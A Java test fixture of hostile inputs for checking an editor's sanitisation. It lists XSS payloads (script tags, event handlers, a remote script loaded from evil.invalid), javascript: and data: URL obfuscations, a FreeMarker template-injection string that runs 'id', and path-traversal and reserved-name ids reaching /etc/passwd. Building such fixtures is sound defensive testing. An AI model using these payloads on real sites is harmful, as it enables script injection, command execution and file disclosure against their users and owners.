package org.incipit.hostile;

import java.util.List;

/** What somebody would write who wants a reader's browser to run it; each sets {@code window.ran} or asks another host. */
final class Payloads {

    private static final String RUN = "window.ran=1";

    /** For any place where an editor writes words. */
    static final List<String> WORDS = List.of(
            "<script>" + RUN + "</script>",
            "</script><script>" + RUN + "</script>",
            "\"><script src=//evil.invalid/x.js></script>",
            "'\"><img src=x onerror=" + RUN + ">",
            "\" onmouseover=\"" + RUN + "\" autofocus onfocus=\"" + RUN + "\" x=\"",
            "</title></style></textarea></template></noscript><svg onload=" + RUN + ">",
            "<svg><animate onbegin=" + RUN + " attributeName=x dur=1s></svg>",
            "<iframe srcdoc='<script>parent." + RUN + "</script>'></iframe>",
            "<base href=//evil.invalid/><meta http-equiv=refresh content='0;url=//evil.invalid/'>",
            "<img src=http://evil.invalid/pixel.png><link rel=stylesheet href=http://evil.invalid/x.css>",
            "--><script>" + RUN + "</script><!--",
            "]]><script>" + RUN + "</script><![CDATA[",
            "<?xml-stylesheet href='http://evil.invalid/x.xsl'?>",
            "&lt;script&gt;" + RUN + "&lt;/script&gt;",
            "${" + RUN + "} <#assign x=1> ${\"freemarker.template.utility.Execute\"?new()(\"id\")} [#if x]",
            "{{constructor.constructor('" + RUN + "')()}}",
            "\\u003cscript\\u003e" + RUN + "\\u003c/script\\u003e",
            "<math><mtext><table><mglyph><style><img src=x onerror=" + RUN + ">",
            "\u2028" + RUN + "\u2029",
            "@import url(http://evil.invalid/x.css); body{background:url(http://evil.invalid/y)}");

    /** For any place where an editor writes an address. */
    static final List<String> ADDRESSES = List.of(
            "javascript:" + RUN,
            "JaVaScRiPt:" + RUN,
            "javascript&colon;" + RUN,
            "&#106;avascript:" + RUN,
            "&#x6A&#x61vascript:" + RUN,
            "<java\tscript:" + RUN + ">",
            "< javascript:" + RUN + ">",
            "<\u0001javascript:" + RUN + ">",
            "java&#x0A;script:" + RUN,
            "\\javascript:" + RUN,
            "vbscript:" + RUN,
            "data:text/html,<script>" + RUN + "</script>",
            "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
            "view-source:javascript:" + RUN,
            "blob:" + RUN,
            "//evil.invalid/",
            "/\\evil.invalid/",
            "\\\\evil.invalid\\x",
            "file:///etc/passwd",
            "../../../../etc/passwd",
            "http://evil.invalid\" onclick=\"" + RUN,
            "https://user@evil.invalid/");

    /** For any place where an editor writes an id. */
    static final List<String> IDS = List.of(
            "../x",
            "..",
            ".",
            "a/b",
            "a\\b",
            "/etc/passwd",
            "CON",
            "con",
            "nul.html",
            "x\u0000y",
            "x\"y",
            "<x>",
            "a b",
            "",
            "x.",
            "\u0430na",
            "an\u200ba",
            "le\u0301",
            "%2e%2e%2fx",
            "-x",
            "x".repeat(300));

    private Payloads() {}
}
